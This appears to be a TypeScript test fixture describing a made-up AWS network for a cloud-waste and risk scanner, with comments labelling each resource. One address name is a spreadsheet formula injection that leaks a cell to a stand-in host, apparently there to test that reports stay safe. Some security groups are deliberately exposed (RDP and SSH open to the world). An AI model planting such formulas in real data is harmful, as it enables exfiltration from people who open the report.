/** The networks, and what goes in and out of them. */
import type { Region } from "../../../estate.ts"
import { teams } from "../../../helpers.ts"

const { data, logistics, marketing, payments, platform, web } = teams("production")

export const network: Partial<Region> = {
  vpcs: [
    { name: "main", tags: platform },
    { name: "migration", tags: platform },
    { name: "default", isDefault: true }
  ],
  routeTables: [
    { name: "public", vpc: "main", routes: [{ to: "0.0.0.0/0", via: { internetGateway: "main" } }] },
    { name: "private-a", vpc: "main", routes: [{ to: "0.0.0.0/0", via: { natGateway: "nat-a" } }] },
    { name: "private-b", vpc: "main", routes: [{ to: "0.0.0.0/0", via: { natGateway: "nat-b" } }] },
    { name: "migration", vpc: "migration", routes: [{ to: "0.0.0.0/0", via: { natGateway: "nat-migration" } }] },
    { name: "default", vpc: "default", routes: [{ to: "0.0.0.0/0", via: { internetGateway: "default" } }] }
  ],
  internetGateways: [
    { name: "main", vpc: "main", tags: platform },
    { name: "default", vpc: "default" },
    // Waste: detached since a VPN was replaced.
    { name: "old-vpn", tags: platform }
  ],
  natGateways: [
    { name: "nat-a", vpc: "main", zone: "a", created: "2023-02-06", bytes: 41_000_000_000, tags: platform },
    { name: "nat-b", vpc: "main", zone: "b", created: "2023-02-06", bytes: 39_500_000_000, tags: platform },
    // Waste: routed, and nothing has used it since the data centre was emptied.
    {
      name: "nat-migration",
      vpc: "migration",
      zone: "a",
      created: "2024-05-13",
      bytes: { daily: 220_000_000_000, until: "2026-06-12" },
      tags: platform
    },
    // Healthy: private, so it has no public address.
    {
      name: "nat-office",
      vpc: "main",
      zone: "b",
      created: "2024-09-02",
      private: true,
      bytes: { weekdays: 1_800_000_000, weekends: 0 },
      tags: platform
    },
    // Too young to judge: made for the Christmas peak.
    { name: "nat-c", vpc: "main", zone: "c", created: "2026-11-12", bytes: 0, tags: platform },
    // Unknown: NAT gateways publish zeros while idle, so no datapoint at all proves nothing.
    { name: "nat-inspection", vpc: "main", zone: "a", created: "2025-01-20", bytes: "missing", tags: platform }
  ],
  vpcEndpoints: [
    {
      name: "s3",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.s3",
      type: "Gateway",
      zones: [],
      routeTables: ["private-a", "private-b"],
      created: "2023-02-06",
      bytes: 0,
      tags: platform
    },
    {
      name: "dynamodb-main",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.dynamodb",
      type: "Gateway",
      zones: [],
      routeTables: ["private-a", "private-b"],
      created: "2023-02-06",
      bytes: 0,
      tags: platform
    },
    // Waste: free of charge, but no route table leads to it.
    {
      name: "dynamodb",
      vpc: "migration",
      service: "com.amazonaws.eu-central-1.dynamodb",
      type: "Gateway",
      zones: [],
      routeTables: [],
      created: "2024-05-13",
      bytes: 0,
      tags: platform
    },
    ...["secretsmanager", "ecr.api", "ecr.dkr", "logs"].map((service) => ({
      name: service,
      vpc: "main",
      service: `com.amazonaws.eu-central-1.${service}`,
      zones: ["a", "b", "c"],
      created: "2023-03-01",
      bytes: 3_200_000_000,
      tags: platform
    })),
    // Waste: three zones of an endpoint whose stream was deleted.
    {
      name: "kinesis",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.kinesis-streams",
      zones: ["a", "b", "c"],
      created: "2023-09-18",
      bytes: { daily: 90_000_000, until: "2026-07-31" },
      tags: data
    },
    // Waste: a second endpoint for a service that the VPC already has one for.
    {
      name: "logs-from-template",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.logs",
      zones: ["a"],
      created: "2025-06-02",
      bytes: 1_100_000,
      tags: platform
    },
    // Too young to judge.
    {
      name: "bedrock-runtime",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.bedrock-runtime",
      zones: ["a", "b"],
      created: "2026-11-09",
      bytes: 0,
      tags: data
    },
    // Not ours to delete: another service made it.
    {
      name: "managed-grafana",
      vpc: "main",
      service: "com.amazonaws.eu-central-1.grafana-workspace",
      zones: ["a", "b"],
      created: "2024-10-01",
      bytes: 0,
      requesterManaged: true
    }
  ],
  endpointServices: [{ name: "partner-feed", loadBalancers: ["partner-feed"], connections: 3 }],
  securityGroups: [
    { name: "default", description: "default VPC security group" },
    { name: "alb", inbound: [{ port: 443, from: { cidr: "0.0.0.0/0" } }], tags: web },
    { name: "web", inbound: [{ port: 8080, from: { group: "alb" } }], tags: web },
    { name: "search", inbound: [{ port: 9200, from: { group: "web" } }], tags: web },
    { name: "orders-db", inbound: [{ port: 5432, from: { group: "web" } }], tags: payments },
    { name: "sessions-cache", inbound: [{ port: 6379, from: { group: "web" } }], tags: web },
    { name: "containers", inbound: [{ port: 8080, from: { group: "alb" } }], tags: web },
    { name: "bastion", inbound: [{ port: 22, from: { cidr: "203.0.113.0/24" } }], tags: platform },
    // A risk: a consultant's remote desktop, opened to the world in two halves, on a machine with a public address.
    {
      name: "erp",
      inbound: [
        { port: 443, from: { cidr: "10.0.0.0/8" } },
        { port: 3389, from: { cidr: "0.0.0.0/1" } },
        { port: 3389, from: { cidr: "128.0.0.0/1" } }
      ],
      tags: logistics
    },
    // In use by nothing that has an interface, and yet not unused: a stopped database, a sleeping function, a template.
    { name: "reporting-db", tags: data },
    { name: "vpc-functions", tags: platform },
    { name: "batch-workers", tags: data },
    // On no interface, and named in a rule of another group: deleting it would fail.
    { name: "partner-vpn", tags: platform },
    { name: "partner-api", inbound: [{ port: 443, from: { group: "partner-vpn" } }], tags: platform },
    // On no interface, and named in a rule on the other side of a peering connection.
    { name: "shared-services", referencedFrom: "vpc-0aa11bb22cc33dd44", tags: platform },
    // Waste.
    { name: "jenkins-2019", inbound: [{ port: 8080, from: { cidr: "10.0.0.0/8" } }], tags: platform },
    // Waste: open to the world as well, should anyone put it on something.
    { name: "ssh-from-anywhere", inbound: [{ port: 22, from: { cidr: "0.0.0.0/0" } }] },
    // Waste: the only rule that names it is its own.
    { name: "old-cluster", inbound: [{ port: 7000, from: { group: "old-cluster" } }], tags: data }
  ],
  addresses: [
    { name: "nat-a", ip: "203.0.113.10", on: { natGateway: "nat-a" }, tags: platform },
    { name: "nat-b", ip: "203.0.113.11", on: { natGateway: "nat-b" }, tags: platform },
    { name: "nat-c", ip: "203.0.113.12", on: { natGateway: "nat-c" }, tags: platform },
    { name: "nat-migration", ip: "203.0.113.13", on: { natGateway: "nat-migration" }, tags: platform },
    { name: "nat-inspection", ip: "203.0.113.14", on: { natGateway: "nat-inspection" }, tags: platform },
    { name: "bastion", ip: "203.0.113.20", on: { instance: "bastion" }, tags: platform },
    // Waste, claimed by two scans through its instance: the address, and the disks of what it points to.
    { name: "erp-legacy", ip: "203.0.113.21", on: { instance: "erp-legacy" }, tags: logistics },
    // Waste: on an interface that is attached to nothing.
    { name: "failover", ip: "203.0.113.22", on: { interface: "failover" }, tags: web },
    // Waste: a spreadsheet formula for a name, so that a report may not become a program.
    { name: '=HYPERLINK("http://203.0.113.99/?leak="&A1,"open me")', ip: "203.0.113.23", tags: marketing },
    // Free of charge: the shop's own range.
    { name: "own-range", ip: "192.0.2.10", ownPool: true, tags: platform },
    // Not ours to release: a load balancer holds it.
    { name: "alb-managed", unnamed: true, ip: "203.0.113.24", serviceManaged: "alb" }
  ],
  interfaces: [
    { name: "failover", description: "Failover address of the old web tier", groups: ["web"], detached: true }
  ]
}
